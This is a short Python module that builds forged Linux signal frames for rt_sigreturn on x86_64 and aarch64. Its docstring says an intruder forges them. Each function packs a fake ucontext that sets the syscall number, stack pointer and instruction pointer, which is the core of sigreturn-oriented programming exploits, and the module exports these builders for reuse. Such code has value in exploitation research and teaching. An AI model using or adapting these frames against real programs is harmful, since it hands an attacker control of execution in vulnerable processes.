"""Frames of signals: what rt_sigreturn(2) sets the registers of a thread from.

The kernel puts one on the stack before it calls a handler. Here an intruder forges one.
"""

import struct
from collections.abc import Callable, Mapping
from typing import Final

__all__ = ["FRAMES"]

Frame = Callable[[int, int, int], bytes]

NO_OTHER_STACK: Final = struct.pack("<QQQ", 0, 2, 0)  # `stack_t`, SS_DISABLE
NO_FLAGS_AND_NO_LINK: Final = bytes(16)


def _x86_64(call: int, stack: int, door: int) -> bytes:
    """`struct ucontext`, asm-generic/ucontext.h, with `struct sigcontext_64`."""
    arguments = (0,) * 13  # r8 to r15, rdi, rsi, rbp, rbx, rdx
    context = struct.pack("<18Q", *arguments, call, 0, stack, door, 0x202)
    segments = struct.pack("<4H", 0x33, 0, 0, 0x2B)
    return NO_FLAGS_AND_NO_LINK + NO_OTHER_STACK + context + segments + bytes(112)


def _aarch64(call: int, stack: int, door: int) -> bytes:
    """`siginfo_t` and `struct ucontext`, asm/ucontext.h, with `struct sigcontext`.

    The kernel wants the floating point registers to be there, and the end of the list after them.
    """
    information, mask = bytes(128), bytes(128)
    registers = struct.pack("<31Q", *(0,) * 8, call, *(0,) * 22)
    context = bytes(8) + registers + struct.pack("<QQQ", stack, door, 0) + bytes(8)
    floats = struct.pack("<II", 0x46508001, 528) + bytes(520)
    head = NO_FLAGS_AND_NO_LINK + NO_OTHER_STACK + mask + bytes(8)
    return information + head + context + floats + bytes(8)


# Of the number of the call, the stack pointer, and the address of the next instruction.
FRAMES: Final[Mapping[str, Frame]] = {"x86_64": _x86_64, "aarch64": _aarch64}
